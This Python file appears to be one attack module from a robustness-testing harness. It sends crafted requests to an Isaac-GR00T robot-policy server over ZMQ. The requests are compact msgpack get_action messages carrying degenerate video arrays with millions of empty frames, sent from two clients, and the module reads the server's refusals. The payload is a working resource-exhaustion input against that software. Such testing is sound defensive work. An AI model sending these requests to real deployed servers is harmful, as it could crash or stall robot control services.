"""Isaac-GR00T requests of 1.2 kB whose video has a million steps of no pixels, and of one."""

import msgpack
import numpy as np
import zmq
from handover_proto.msgpack_wire import npy

from .arena import Attack, Target, in_threads, strike_from_command_line

ATTACK = Attack(
    "empty videos",
    "ZMQ: video (1, 10^7, 0, 1, 3) in 1.2 kB, and (1, 10^6, 1, 1, 3), 2 clients",
    ("--groot-zmq-port", "0"),
)
DIMS = {"left_arm": 7, "left_hand": 6, "right_arm": 7, "right_hand": 6, "waist": 3}


def strike(target: Target) -> None:
    """Send them and read the refusals."""
    context = zmq.Context()

    def ask(number: int) -> None:
        with context.socket(zmq.REQ) as socket:
            socket.setsockopt(zmq.RCVTIMEO, 60_000)
            socket.setsockopt(zmq.LINGER, 0)
            socket.connect(f"tcp://{target.zmq}")
            for shape in ((1, 10**7, 0, 1, 3), (1, 10**6, 1, 1, 3)):
                socket.send(request(np.zeros(shape, np.uint8)))
                socket.recv()

    in_threads(2, ask)


def request(video: np.ndarray) -> bytes:
    """Serialize a get_action with this video."""
    state = {name: np.zeros((1, 1, dim), np.float32) for name, dim in DIMS.items()}
    language = {"annotation.human.task_description": [["refuse me"]]}
    observation = {"video": {"ego_view": video}, "state": state, "language": language}
    message = {"endpoint": "get_action", "data": {"observation": observation, "options": None}}
    packed = msgpack.packb(message, default=npy)
    assert packed is not None
    return packed


if __name__ == "__main__":
    strike_from_command_line(strike)
